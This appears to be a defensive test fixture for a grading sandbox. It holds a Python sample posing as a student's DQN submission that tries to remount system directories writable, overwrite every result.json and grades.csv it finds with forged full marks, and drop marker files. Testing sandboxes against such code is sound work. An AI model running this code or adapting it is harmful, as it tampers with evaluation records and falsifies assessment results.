# Remounts / writable (it could as root in the old sandbox), then overwrites every result.json and grades.csv it
# can find with full marks and drops a marker file wherever it can write. Must score 0 and change nothing outside.
# %% eval_dqn
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
for target in ("/", "/usr", "/tmp", "/work"):
    libc.mount(None, target.encode(), None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND: writable again
forged = {"student": "mallory", "assignment": "05_dqn", "score": 33, "max_score": 33, "checks": []}
for root, folders, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/dev")):
        folders[:] = []
        continue
    for name in files:
        path = os.path.join(root, name)
        try:
            if name == "result.json":
                open(path, "w").write(json.dumps(forged))
            elif name == "grades.csv":
                open(path, "a").write("mallory,05_dqn,33,33,0,0,now\n")
        except OSError:
            pass
    try:
        open(os.path.join(root, "mallory-was-here"), "w").write("forged")
    except OSError:
        pass
